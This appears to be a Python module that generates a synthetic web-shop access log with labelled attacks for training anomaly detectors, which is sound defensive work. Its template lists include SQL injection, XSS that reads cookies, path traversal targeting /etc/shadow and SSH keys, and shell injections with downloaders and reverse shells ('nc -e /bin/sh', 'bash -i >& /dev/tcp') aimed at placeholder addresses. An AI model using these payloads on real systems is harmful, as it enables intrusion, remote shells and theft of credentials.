"""HTTP requests to a web shop, with labelled attacks.

What is simulated: the access log of an online shop (search, product pages,
catalogue, downloads, cart, login, registration, profile, checkout, contact
form). Each row is one request carrying one parameter: timestamp, client IP,
method, path, parameter name, the parameter's value (``payload``), status
code, response size and user agent.

Why it resembles real traffic (compare the CSIC 2010 parameter values in
HttpParamsDataset): clients come back many times with the same address and
browser, a few of them much more often than the rest; arrivals follow the
daily cycle of a shop; parameter values look like what people type - search
words, names and surnames, e-mail addresses, street addresses, postcodes,
phone and ID numbers (with a valid check letter), card numbers, file names -
built from syllables and digits rather than drawn from a fixed list.

Attacks, labelled ``is_anomaly = 1`` with their ``anomaly_type``, come as
bursts from one attacker (one address and tool), interleaved in time with
normal traffic, as scanners and scripted attacks do:

- ``sql_injection``: break-out quotes and parentheses, boolean, UNION,
  stacked, time-based and error-based injections with random numbers, column
  counts, comment styles, keyword case and space encodings;
- ``xss``: script tags, event handlers, ``javascript:`` URLs and attribute
  break-outs with varied functions, arguments, tag case and URL-encoding;
- ``path_traversal``: ``../`` sequences in many encodings and depths aimed at
  well-known system files, sometimes with a null-byte suffix;
- ``command_injection``: shell separators (``;``, ``|``, ``&&``, backticks,
  ``$(...)``, encoded newlines) followed by reconnaissance, sleeps,
  downloaders and reverse shells;
- ``credential_stuffing``: rapid ``POST /login`` with leaked e-mail addresses
  from one to four addresses, nearly all answered 401.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime

import numpy as np
import pandas as pd

from vigil.simulate.logs import (
    StrArray,
    as_naive_utc,
    burst_offsets,
    burst_starts,
    choose,
    clock_seconds,
    join_text,
    labels,
    ordered_frame,
    plan_incidents,
    random_ipv4,
    replace_text,
    to_timestamps,
)

EVENTS_PER_HOUR = 2700.0
ATTACK_TYPES = (
    "sql_injection",
    "xss",
    "path_traversal",
    "command_injection",
    "credential_stuffing",
)
ATTACK_LENGTHS = {
    "sql_injection": (10, 150),
    "xss": (5, 60),
    "path_traversal": (5, 60),
    "command_injection": (3, 40),
    "credential_stuffing": (30, 300),
}
# Mean seconds between requests of one attacker: tools are fast, stuffing faster still.
ATTACK_GAP_SECONDS = np.array([1.0, 2.0, 1.5, 3.0, 0.3])


@dataclass(frozen=True)
class Endpoint:
    """One parameter of one route: how often it is called and what its values look like."""

    method: str
    path: str
    param: str
    share: float
    value_kind: str
    response_bytes: float


ENDPOINTS = (
    Endpoint("GET", "/search", "q", 0.16, "query", 18_000),
    Endpoint("GET", "/products", "id", 0.14, "number", 25_000),
    Endpoint("GET", "/products", "category", 0.07, "word", 30_000),
    Endpoint("GET", "/catalog", "page", 0.08, "page", 32_000),
    Endpoint("GET", "/download", "file", 0.04, "file", 350_000),
    Endpoint("POST", "/cart/add", "quantity", 0.06, "quantity", 900),
    Endpoint("POST", "/cart/add", "id", 0.04, "number", 900),
    Endpoint("DELETE", "/cart/item", "id", 0.02, "number", 400),
    Endpoint("POST", "/login", "username", 0.06, "email", 650),
    Endpoint("POST", "/login", "password", 0.04, "password", 650),
    Endpoint("POST", "/account/register", "name", 0.03, "word", 1_200),
    Endpoint("POST", "/account/register", "surname", 0.03, "surname", 1_200),
    Endpoint("POST", "/account/register", "email", 0.03, "email", 1_200),
    Endpoint("POST", "/account/register", "dni", 0.02, "dni", 1_200),
    Endpoint("POST", "/account/register", "phone", 0.02, "phone", 1_200),
    Endpoint("PUT", "/account/profile", "address", 0.03, "address", 1_500),
    Endpoint("PUT", "/account/profile", "city", 0.02, "city", 1_500),
    Endpoint("PUT", "/account/profile", "zip", 0.02, "zip", 1_500),
    Endpoint("POST", "/checkout", "card", 0.03, "card", 2_200),
    Endpoint("POST", "/checkout", "address", 0.02, "address", 2_200),
    Endpoint("POST", "/contact", "message", 0.04, "sentence", 800),
)
ENDPOINT_SHARE = np.array([e.share for e in ENDPOINTS]) / sum(e.share for e in ENDPOINTS)
ENDPOINT_BYTES = np.array([e.response_bytes for e in ENDPOINTS])
LOGIN_USERNAME = next(i for i, e in enumerate(ENDPOINTS) if e.param == "username")
DOWNLOAD = next(i for i, e in enumerate(ENDPOINTS) if e.path == "/download")
TARGETABLE = np.array([i for i, e in enumerate(ENDPOINTS) if e.path != "/login"])

ONSETS = ("b", "c", "d", "f", "g", "l", "m", "n", "p", "r", "s", "t", "v", "ch", "br", "tr", "pl")
NUCLEI = ("a", "e", "i", "o", "u", "a", "e", "o", "ia", "ue")
CODAS = ("", "", "", "", "n", "s", "r", "l")
TLDS = ("com", "es", "net", "org", "io", "de", "fr", "it")
FILE_TYPES = (".pdf", ".pdf", ".jpg", ".png", ".txt", ".zip")
DNI_LETTERS = np.array(list("TRWAGMYFPDXBNJZSQVHLCKE"))


# --- normal parameter values -------------------------------------------------------------------


def words(rng: np.random.Generator, rows: int, syllables: tuple[int, int] = (2, 4)) -> StrArray:
    """Returns ``rows`` pronounceable lowercase words of two to four syllables."""
    count = rng.integers(syllables[0], syllables[1] + 1, rows)
    word: StrArray = np.full(rows, "", dtype="U1")
    for position in range(syllables[1]):
        syllable = join_text(choose(rng, ONSETS, rows), choose(rng, NUCLEI, rows))
        word = np.strings.add(word, np.where(position < count, syllable, ""))
    return np.strings.add(word, choose(rng, CODAS, rows))


def digits(rng: np.random.Generator, rows: int, low: int, high: int) -> StrArray:
    """Returns ``rows`` random numbers with ``low`` to ``high`` digits as text."""
    length = rng.integers(low, high + 1, rows)
    return rng.integers(10 ** (length - 1), 10**length).astype(str)


def optional(rng: np.random.Generator, values: StrArray, probability: float) -> StrArray:
    """Returns ``values`` where a coin with ``probability`` lands heads, else empty strings."""
    return np.where(rng.random(len(values)) < probability, values, "")


def normal_values(rng: np.random.Generator, kind: str, rows: int) -> StrArray:
    """Returns ``rows`` plausible values for a parameter of kind ``kind``."""
    if kind == "query":
        return join_text(
            words(rng, rows), optional(rng, np.strings.add(" ", words(rng, rows)), 0.5)
        )
    if kind == "number":
        return digits(rng, rows, 1, 6)
    if kind == "word":
        return words(rng, rows)
    if kind == "page":
        return rng.geometric(0.15, rows).astype(str)
    if kind == "quantity":
        return rng.geometric(0.6, rows).astype(str)
    if kind == "file":
        return join_text(
            words(rng, rows), "_", digits(rng, rows, 2, 6), choose(rng, FILE_TYPES, rows)
        )
    if kind == "email":
        return join_text(
            words(rng, rows),
            optional(rng, digits(rng, rows, 1, 3), 0.4),
            "@",
            words(rng, rows, (2, 3)),
            ".",
            choose(rng, TLDS, rows),
        )
    if kind == "password":
        return join_text(
            words(rng, rows),
            digits(rng, rows, 1, 4),
            optional(rng, choose(rng, ("!", "#", "$", "*"), rows), 0.3),
        )
    if kind == "surname":
        return join_text(
            words(rng, rows), optional(rng, np.strings.add(" ", words(rng, rows)), 0.3)
        )
    if kind == "city":
        prefix = choose(rng, ("", "", "", "san ", "villa", "puerto "), rows)
        suffix = optional(rng, np.strings.add(" de ", words(rng, rows)), 0.2)
        return join_text(prefix, words(rng, rows), suffix)
    if kind == "address":
        street = choose(rng, ("c/ ", "calle ", "avda. ", "plaza ", "paseo "), rows)
        number = np.where(
            rng.random(rows) < 0.1, " s/n", np.strings.add(", ", digits(rng, rows, 1, 3))
        )
        return join_text(
            street,
            words(rng, rows),
            optional(rng, np.strings.add(" ", words(rng, rows)), 0.3),
            number,
        )
    if kind == "zip":
        return np.strings.zfill(rng.integers(1000, 52999, rows).astype(str), 5)
    if kind == "phone":
        return join_text(
            choose(rng, ("6", "6", "7", "9"), rows),
            np.strings.zfill(rng.integers(0, 10**8, rows).astype(str), 8),
        )
    if kind == "dni":
        number = rng.integers(0, 10**8, rows)
        return np.strings.add(np.strings.zfill(number.astype(str), 8), DNI_LETTERS[number % 23])
    if kind == "card":
        return join_text(
            choose(rng, ("4", "5"), rows),
            np.strings.zfill(rng.integers(0, 10**15, rows).astype(str), 15),
        )
    count = rng.integers(3, 10, rows)
    sentence = words(rng, rows)
    for position in range(1, 9):
        sentence = np.strings.add(
            sentence, np.where(position < count, np.strings.add(" ", words(rng, rows)), "")
        )
    return sentence


# --- attack payloads ---------------------------------------------------------------------------

SQL_PREFIXES = ("1", "-{n}", "{n}", "{w}", "")
SQL_BREAKOUTS = ("", "'", '"', "')", '")', "'))", '"))', ")", "))", "%'", "')))")
SQL_CORES = (
    " or {a}={a}",
    " and {a}={b}",
    " union all select {nulls}",
    " union select {nums}",
    " and sleep({s})",
    ";select pg_sleep({s})",
    " waitfor delay '0:0:{s}'",
    " order by {k}",
    " and {a}=(select count(*) from information_schema.tables)",
    " and extractvalue({a},concat(0x7e,(select version()),0x7e))",
    " or '{w}'='{w}",
    " and 1=convert(int,(select @@version))",
    ";drop table {w}",
    " and (select substring(password,1,1) from users where username='admin')='{c}'",
    " or benchmark({big},md5({a}))",
    ";select dbms_pipe.receive_message(chr({c1})||chr({c2}),{s}) from dual",
    " and {a} in (select table_name from all_tables)",
)
SQL_COMMENTS = ("--", "#", "/*", "-- -", "", ";--")
SQL_SPACES = (" ", " ", " ", "+", "%20", "/**/")

XSS_FORMS = (
    "<script>{f}({arg})</script>",
    "<img src={src} onerror={f}({arg})>",
    "<svg onload={f}({arg})>",
    '"><script>{f}({arg})</script>',
    "'><img src=x onerror={f}({arg})>",
    "<body onload={f}({arg})>",
    '<iframe src="javascript:{f}({arg})"></iframe>',
    "javascript:{f}({arg})",
    '<a href="javascript:{f}({arg})">{w}</a>',
    "<details open ontoggle={f}({arg})>",
    "<input autofocus onfocus={f}({arg})>",
    '{w}<script src="http://{w}.{tld}/{w}.js"></script>',
    "';{f}({arg});//",
    '<div style="background:url(javascript:{f}({arg}))">',
    "<marquee onstart={f}({arg})>",
)
XSS_FUNCTIONS = ("alert", "alert", "confirm", "prompt", "window.alert", "top['al'+'ert']")
XSS_ARGUMENTS = (
    "{n}",
    "'xss'",
    "document.cookie",
    "document.domain",
    "String.fromCharCode(88,83,83)",
    "/{w}/",
    "1",
)
XSS_SOURCES = ("x", "#", "/{w}.png", "javascript:void(0)")

TRAVERSAL_STEPS = (
    "../",
    "../",
    "..%2f",
    "%2e%2e%2f",
    "..\\",
    "....//",
    "%2e%2e/",
    "..%252f",
    "..%c0%af",
    "..%5c",
)
TRAVERSAL_TARGETS = (
    "etc/passwd",
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "etc/issue",
    "proc/self/environ",
    "root/.ssh/id_rsa",
    "var/log/apache2/access.log",
    "windows/win.ini",
    "boot.ini",
    "windows/system32/drivers/etc/hosts",
    "WEB-INF/web.xml",
)
TRAVERSAL_LEADS = ("", "", "/", "file:///", "{w}/", "static/")
TRAVERSAL_TAILS = ("", "", "", "%00", "%00.pdf", "%00.jpg")

SHELL_LEADS = ("", "{n}", "{w}", "127.0.0.1", "{w}.pdf")
SHELL_SEPARATORS = (";", ";", "|", "||", "&&", "&", "%0a", "`", "$(")
SHELL_CLOSERS = ("", "", "", "", "", "", "", "`", ")")
SHELL_COMMANDS = (
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "ls -la /{w}",
    "ping -c {s} 127.0.0.1",
    "sleep {s}",
    "wget http://{ip}/{w}.sh -O /tmp/{w}",
    "curl -s http://{ip}:{port}/{w} | sh",
    "nc -e /bin/sh {ip} {port}",
    "echo {w} > /tmp/{w}",
    "cat /etc/shadow",
    "net user",
    "type c:\\windows\\win.ini",
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
    "busybox wget http://{ip}/{w}",
)
SHELL_TRAILS = ("", "", ";", " #", ";#")


def fill(rng: np.random.Generator, templates: StrArray) -> StrArray:
    """Returns ``templates`` with every ``{placeholder}`` replaced by a fresh random value."""
    rows = len(templates)
    values = {
        "{n}": lambda: digits(rng, rows, 3, 5),
        "{a}": lambda: rng.integers(1000, 9999, rows).astype(str),
        "{b}": lambda: rng.integers(1000, 9999, rows).astype(str),
        "{s}": lambda: rng.integers(2, 16, rows).astype(str),
        "{k}": lambda: rng.integers(1, 30, rows).astype(str),
        "{c}": lambda: choose(rng, tuple("abcdefghijklmnopqrstuvwxyz0123456789"), rows),
        "{c1}": lambda: rng.integers(65, 91, rows).astype(str),
        "{c2}": lambda: rng.integers(65, 91, rows).astype(str),
        "{big}": lambda: join_text(rng.integers(1, 10, rows).astype(str), "000000"),
        "{nulls}": lambda: np.strings.add(
            np.strings.multiply("null,", rng.integers(0, 12, rows)), "null"
        ),
        "{nums}": lambda: _repeated_number(rng, rows),
        "{tld}": lambda: choose(rng, TLDS, rows),
        "{ip}": lambda: random_ipv4(rng, rows),
        "{port}": lambda: rng.integers(1024, 65535, rows).astype(str),
        "{w}": lambda: words(rng, rows),
    }
    filled = templates
    for placeholder, draw in values.items():
        has = np.strings.find(filled, placeholder) >= 0
        if has.any():
            filled = np.where(has, replace_text(filled, placeholder, draw()), filled)
    return filled


def _repeated_number(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``n,n,...,n`` lists of one random number repeated one to twelve times."""
    number = rng.integers(1000, 9999, rows).astype(str)
    return np.strings.add(
        np.strings.multiply(np.strings.add(number, ","), rng.integers(0, 12, rows)), number
    )


def sql_injections(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` varied SQL injection payloads."""
    payload = join_text(
        choose(rng, SQL_PREFIXES, rows),
        choose(rng, SQL_BREAKOUTS, rows),
        choose(rng, SQL_CORES, rows),
        choose(rng, SQL_COMMENTS, rows),
    )
    payload = fill(rng, payload)
    shouting = rng.random(rows) < 0.2
    payload = np.where(shouting, np.strings.upper(payload), payload)
    return replace_text(payload, " ", choose(rng, SQL_SPACES, rows))


def cross_site_scripts(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` varied cross-site scripting payloads."""
    payload = choose(rng, XSS_FORMS, rows)
    payload = replace_text(payload, "{src}", choose(rng, XSS_SOURCES, rows))
    payload = replace_text(payload, "{f}", choose(rng, XSS_FUNCTIONS, rows))
    payload = fill(rng, replace_text(payload, "{arg}", choose(rng, XSS_ARGUMENTS, rows)))
    mixed_case = rng.random(rows) < 0.2
    payload = np.where(
        mixed_case,
        replace_text(payload, "script", choose(rng, ("ScRiPt", "SCRIPT", "scRipt"), rows)),
        payload,
    )
    encoded = rng.random(rows) < 0.2
    url_encoded = replace_text(
        replace_text(replace_text(payload, "<", "%3C"), ">", "%3E"), '"', "%22"
    )
    return np.where(encoded, url_encoded, payload)


def path_traversals(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` varied path traversal payloads."""
    climb = np.strings.multiply(choose(rng, TRAVERSAL_STEPS, rows), rng.integers(2, 11, rows))
    payload = join_text(
        choose(rng, TRAVERSAL_LEADS, rows),
        climb,
        choose(rng, TRAVERSAL_TARGETS, rows),
        choose(rng, TRAVERSAL_TAILS, rows),
    )
    return fill(rng, payload)


def command_injections(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` varied OS command injection payloads."""
    separator = rng.integers(0, len(SHELL_SEPARATORS), rows)
    spacing = np.where(rng.random(rows) < 0.5, " ", "")
    payload = join_text(
        choose(rng, SHELL_LEADS, rows),
        np.asarray(SHELL_SEPARATORS)[separator],
        spacing,
        choose(rng, SHELL_COMMANDS, rows),
        np.asarray(SHELL_CLOSERS)[separator],
        choose(rng, SHELL_TRAILS, rows),
    )
    return fill(rng, payload)


# --- clients -----------------------------------------------------------------------------------

_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_SAFARI = "AppleWebKit/605.1.15 (KHTML, like Gecko)"
BROWSER_FORMS = (
    f"Mozilla/5.0 ({{os}}) {_WEBKIT} Chrome/{{v}}.0.{{b}}.{{p}} Safari/537.36",
    f"Mozilla/5.0 ({{os}}) {_WEBKIT} Chrome/{{v}}.0.{{b}}.{{p}} Safari/537.36",
    "Mozilla/5.0 ({os}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_SAFARI} "
    "Version/{m}.{b1} Safari/605.1.15",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS {{m}}_{{b1}} like Mac OS X) {_SAFARI} "
    "Version/{m}.{b1} Mobile/15E148 Safari/604.1",
    f"Mozilla/5.0 (Linux; Android {{a}}; {{model}}) {_WEBKIT} "
    "Chrome/{v}.0.{b}.{p} Mobile Safari/537.36",
    f"Mozilla/5.0 ({{os}}) {_WEBKIT} "
    "Chrome/{v}.0.{b}.{p} Safari/537.36 Edg/{v}.0.{b}.{p}",
)
OPERATING_SYSTEMS = (
    "Windows NT 10.0; Win64; x64",
    "Windows NT 10.0; Win64; x64",
    "Macintosh; Intel Mac OS X 10_15_7",
    "X11; Linux x86_64",
)
PHONE_MODELS = ("SM-G991B", "SM-A536B", "Pixel 7", "Pixel 8", "M2101K6G", "CPH2305", "moto g(60)")
ATTACK_TOOLS = (
    "sqlmap/1.{a}.{b}#stable (https://sqlmap.org)",
    "Nikto/2.{a}.{b}",
    "curl/7.{v}.{b}",
    "curl/8.{a}.{b}",
    "python-requests/2.{v}.{b}",
    "Go-http-client/1.1",
    "Wfuzz/3.1.0",
    "gobuster/3.{a}",
    f"Mozilla/5.0 (X11; Linux x86_64) {_WEBKIT} Chrome/{{v}}.0.0.0 Safari/537.36",
)


def browser_agents(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` realistic browser user-agent strings with varied versions."""
    agent = choose(rng, BROWSER_FORMS, rows)
    replacements = {
        "{os}": choose(rng, OPERATING_SYSTEMS, rows),
        "{model}": choose(rng, PHONE_MODELS, rows),
        "{v}": rng.integers(110, 126, rows).astype(str),
        "{b}": rng.integers(5000, 6500, rows).astype(str),
        "{p}": rng.integers(0, 200, rows).astype(str),
        "{m}": rng.integers(15, 18, rows).astype(str),
        "{b1}": rng.integers(0, 7, rows).astype(str),
        "{a}": rng.integers(10, 15, rows).astype(str),
    }
    for placeholder, value in replacements.items():
        agent = replace_text(agent, placeholder, value)
    return agent


def tool_agents(rng: np.random.Generator, rows: int) -> StrArray:
    """Returns ``rows`` user agents of attack tools, scripts and spoofed browsers."""
    agent = choose(rng, ATTACK_TOOLS, rows)
    agent = replace_text(agent, "{a}", rng.integers(0, 9, rows).astype(str))
    agent = replace_text(agent, "{b}", rng.integers(0, 40, rows).astype(str))
    return replace_text(agent, "{v}", rng.integers(28, 99, rows).astype(str))


# --- the request generator ---------------------------------------------------------------------


def _normal_status(rng: np.random.Generator, endpoint: np.ndarray) -> np.ndarray:
    """Returns usual status codes: mostly success, some 404/400/500, failed logins 401."""
    rows = len(endpoint)
    methods = np.array([e.method for e in ENDPOINTS])[endpoint]
    success = np.where(methods == "GET", 200, np.where(methods == "POST", 201, 200))
    success = np.where(np.isin(endpoint, [LOGIN_USERNAME, LOGIN_USERNAME + 1]), 200, success)
    roll = rng.random(rows)
    status = np.where(roll < 0.03, 404, success)
    status = np.where((roll >= 0.03) & (roll < 0.045), 400, status)
    status = np.where((roll >= 0.045) & (roll < 0.05), 500, status)
    status = np.where((methods == "GET") & (roll > 0.97), 304, status)
    mistyped = np.isin(endpoint, [LOGIN_USERNAME, LOGIN_USERNAME + 1]) & (rng.random(rows) < 0.12)
    return np.where(mistyped, 401, status)


ATTACK_STATUS = {
    "sql_injection": ((200, 500, 403), (0.5, 0.35, 0.15)),
    "xss": ((200, 400, 403), (0.7, 0.2, 0.1)),
    "path_traversal": ((200, 404, 400, 403), (0.15, 0.45, 0.25, 0.15)),
    "command_injection": ((200, 500, 403), (0.55, 0.3, 0.15)),
    "credential_stuffing": ((401, 200, 429), (0.96, 0.03, 0.01)),
}
ATTACK_PAYLOADS = {
    "sql_injection": sql_injections,
    "xss": cross_site_scripts,
    "path_traversal": path_traversals,
    "command_injection": command_injections,
}


def simulate_requests(
    rows: int, anomaly_rate: float, seed: int, start: datetime | None = None
) -> pd.DataFrame:
    """Returns ``rows`` HTTP requests in time order, about ``anomaly_rate`` of them attacks.

    Columns: timestamp, client_ip, method, path, param, payload, status_code,
    response_size, user_agent, is_anomaly, anomaly_type.
    """
    rng = np.random.default_rng(seed)
    origin = as_naive_utc(start)
    types, lengths = plan_incidents(rng, round(rows * anomaly_rate), ATTACK_LENGTHS)
    attack_rows = int(lengths.sum())
    normal_rows = rows - attack_rows

    # Normal clients: a skewed population, each with a fixed address and browser.
    clients = max(50, rows // 25)
    activity = rng.lognormal(0.0, 1.2, clients)
    client = rng.choice(clients, size=normal_rows, p=activity / activity.sum())
    client_ip = random_ipv4(rng, clients).astype(object)[client]
    agent = browser_agents(rng, clients).astype(object)[client]
    endpoint = rng.choice(len(ENDPOINTS), size=normal_rows, p=ENDPOINT_SHARE)
    seconds = clock_seconds(np.cumsum(rng.exponential(1.0, normal_rows)), EVENTS_PER_HOUR, origin)
    span = float(seconds[-1]) if normal_rows else 3600.0

    # Attacks: bursts from one tool and one to four addresses (only stuffing rotates them).
    incident, offsets = burst_offsets(
        rng, lengths, ATTACK_GAP_SECONDS[types] * rng.uniform(0.5, 2.0, len(types))
    )
    attack_seconds = burst_starts(rng, incident, offsets, span)[incident] + offsets
    kind = types[incident]
    stuffing = kind == ATTACK_TYPES.index("credential_stuffing")
    addresses = random_ipv4(rng, 4 * len(types)).reshape(-1, 4)
    rotation = np.where(
        stuffing, rng.integers(0, 4, attack_rows) % rng.integers(1, 5, len(types))[incident], 0
    )
    attack_ip = addresses.astype(object)[incident, rotation]
    attack_agent = tool_agents(rng, len(types)).astype(object)[incident]
    attack_endpoint = TARGETABLE[rng.integers(0, len(TARGETABLE), attack_rows)]
    traversal = kind == ATTACK_TYPES.index("path_traversal")
    attack_endpoint = np.where(
        traversal & (rng.random(attack_rows) < 0.7), DOWNLOAD, attack_endpoint
    )
    attack_endpoint = np.where(stuffing, LOGIN_USERNAME, attack_endpoint)

    endpoint = np.concatenate((endpoint, attack_endpoint))
    payload = np.empty(rows, dtype=object)
    kinds = np.array([e.value_kind for e in ENDPOINTS])[endpoint]
    normal_or_stuffing = np.concatenate((np.ones(normal_rows, dtype=bool), stuffing))
    for value_kind in np.unique(kinds):
        idx = np.flatnonzero((kinds == value_kind) & normal_or_stuffing)
        if len(idx) == 0:
            continue
        payload[idx] = normal_values(rng, str(value_kind), len(idx)).astype(object)
    status = np.concatenate(
        (_normal_status(rng, endpoint[:normal_rows]), np.zeros(attack_rows, dtype=np.int64))
    )
    for code, name in enumerate(ATTACK_TYPES):
        idx = np.flatnonzero(kind == code)
        if len(idx) == 0:
            continue
        if name in ATTACK_PAYLOADS:
            payload[normal_rows + idx] = ATTACK_PAYLOADS[name](rng, len(idx)).astype(object)
        codes, weights = ATTACK_STATUS[name]
        status[normal_rows + idx] = np.array(codes)[
            rng.choice(len(codes), size=len(idx), p=weights)
        ]

    failed = status >= 400
    size = np.where(
        failed,
        rng.lognormal(np.log(700.0), 0.5, rows),
        ENDPOINT_BYTES[endpoint] * rng.lognormal(0.0, 0.4, rows),
    )
    size = np.where(status == 304, 0.0, size)
    columns = {
        "timestamp": to_timestamps(origin, np.concatenate((seconds, attack_seconds))),
        "client_ip": np.concatenate((client_ip, attack_ip)),
        "method": np.array([e.method for e in ENDPOINTS], dtype=object)[endpoint],
        "path": np.array([e.path for e in ENDPOINTS], dtype=object)[endpoint],
        "param": np.array([e.param for e in ENDPOINTS], dtype=object)[endpoint],
        "payload": payload,
        "status_code": status,
        "response_size": np.round(size).astype(np.int64),
        "user_agent": np.concatenate((agent, attack_agent)),
        **labels(rows, np.arange(normal_rows, rows), kind, ATTACK_TYPES),
    }
    order = np.argsort(columns["timestamp"], kind="stable")
    return ordered_frame(columns, order)
